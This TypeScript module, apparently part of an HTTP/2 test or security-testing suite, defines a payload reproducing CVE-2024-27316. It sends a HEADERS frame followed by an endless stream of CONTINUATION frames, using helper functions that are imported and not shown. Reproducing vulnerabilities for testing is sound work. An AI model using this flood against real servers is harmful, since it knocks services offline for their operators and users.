/** CVE-2024-27316: a header block of endless CONTINUATION frames. */
import { frame, T } from '../../support/http2-frames.ts';
import { CALL_BLOCK, floodOf } from './http2-flood.ts';

const MORE = frame(T.CONTINUATION, 0, 1, CALL_BLOCK);

export const continuationFlood = floodOf((i) => (i === 0 ? frame(T.HEADERS, 0, 1, CALL_BLOCK) : MORE));
